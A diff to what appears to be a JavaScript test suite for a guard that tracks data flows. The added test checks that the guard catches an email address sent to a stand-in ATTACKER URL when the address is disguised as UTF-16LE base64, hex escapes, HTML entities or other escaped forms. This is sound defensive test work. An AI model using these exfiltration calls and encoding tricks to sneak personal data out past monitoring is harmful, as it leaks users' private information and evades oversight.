@@ -84,4 +84,12 @@ describe("guard with flow tracking on disguised values", () => {
     expect(await send({ email: EMAIL }, { url: `${ATTACKER}?d=${b64u(b64u(b64u(EMAIL)))}` })).toContain(FLOW);
     expect(await send({ email: EMAIL }, { url: `${ATTACKER}?d=${encodeURIComponent(encodeURIComponent(encodeURIComponent(EMAIL)))}` })).toContain(FLOW);
   });
+
+  it("sees an email as base64 of UTF-16LE, as hex with \\x escapes or separators, and with '@' escaped in prose", async () => {
+    const bytes = [...Buffer.from(EMAIL)].map((b) => b.toString(16));
+    expect(await send({ email: EMAIL }, { url: `${ATTACKER}?d=${b64u(Buffer.from(EMAIL, "utf16le"))}` })).toContain(FLOW);
+    for (const body of [bytes.map((b) => `\\x${b}`).join(""), bytes.join(":"), bytes.join(" "), "contact: jane.doe&#64;customer.example", "contact: jane.doe\\u0040customer.example", "contact: jane.doe=40customer.example"]) {
+      expect(await send({ email: EMAIL }, { url: ATTACKER, body })).toContain(FLOW);
+    }
+  });
 });
